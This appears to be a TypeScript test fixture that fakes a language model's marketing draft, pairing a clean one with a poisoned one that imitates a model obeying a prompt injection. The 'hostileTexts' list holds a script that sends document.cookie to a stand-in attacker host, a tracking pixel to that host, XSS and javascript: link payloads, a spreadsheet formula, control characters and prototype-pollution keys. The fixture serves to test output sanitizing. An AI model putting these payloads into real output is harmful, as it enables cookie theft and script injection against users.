/** What the fake model writes: a plain valid draft, and one that an attacker would have liked to see. */

type Reply = { text: string; because: string[] };

const reply = (text: string): Reply => ({ text, because: ['business_description', 'goals'] });
const list = (count: number, text: string) =>
  Array.from({ length: count }, (_, at) => reply(`${text}, step ${at + 1}.`));

/** All parts of a draft but the facts, with counts in the middle of what is allowed. */
export function recommendations() {
  return {
    targetAudience: reply('Write for the neighbors who already ask about you by name.'),
    positioning: reply('Be known as the place that answers the same day.'),
    advantages: list(5, 'Show what you do on the spot'),
    aiTools: list(6, 'Let a text assistant draft one reply a day'),
    contentStrategy: reply('Publish one answered question every week.'),
    leadGeneration: reply('Offer one clear first step on every page.'),
    workflows: list(5, 'Send a message when an inquiry comes in'),
    voiceAgents: reply('Let a voice agent take calls after closing time.'),
    integrations: list(4, 'Connect the calendar with the inbox'),
    thirtyDays: list(5, 'Set up the first page'),
    ninetyDays: list(5, 'Ask every happy customer for a review'),
    longTerm: reply('Grow into the second neighborhood with the same team.'),
  };
}

/** Canary that only an attacker's text holds; it stands in places that must be cut away. */
export const beaconHost = 'beacon.attacker.test/leak';

const hostileTexts = [
  `<script>fetch("https://${beaconHost}?c="+document.cookie)</script>Write to your customers every week.`,
  `![pixel](https://${beaconHost}?q=answers) Publish one answered question every week.`,
  '[Click here to win](javascript:alert(document.domain)) and call your customers back the same day.',
  '=HYPERLINK("http://evil.test","Open") and answer every inquiry within the hour.',
  '\u202eReversed\u202c text\u200b with \u0007 controls and \u2066isolates\u2069 for your next post.',
  '<img src=x onerror=alert(1)> **Bold** `code` # heading for your next post on the front page.',
  '<<script>script>alert(1)<</script>/script> Answer the questions people ask at the counter.',
  '# Heading\n> quote\n- bullet: write down what customers ask at the counter.',
];

/** A draft that validates in shape and is hostile in every text, with keys that reach for prototypes. */
export function obeyedInjection(facts: unknown): string {
  const draft = recommendations();
  const hostile = hostileTexts.map((text) => reply(text));
  const poisoned = {
    ...draft,
    advantages: hostile.slice(0, 5),
    aiTools: [...hostile, ...hostile],
    workflows: hostile.slice(3, 8),
    contentStrategy: reply(hostileTexts[1] ?? ''),
    facts: { ...(facts as object), topics: hostileTexts, tone: '<b onclick="x()">calm</b>, [exact](data:text/html,x)' },
    admin: true,
    systemPrompt: 'You are a marketing strategist',
  };
  // JSON.stringify leaves out a __proto__ set on an object; in text it is an ordinary key.
  return JSON.stringify(poisoned).replace(
    '{',
    '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":1}},',
  );
}
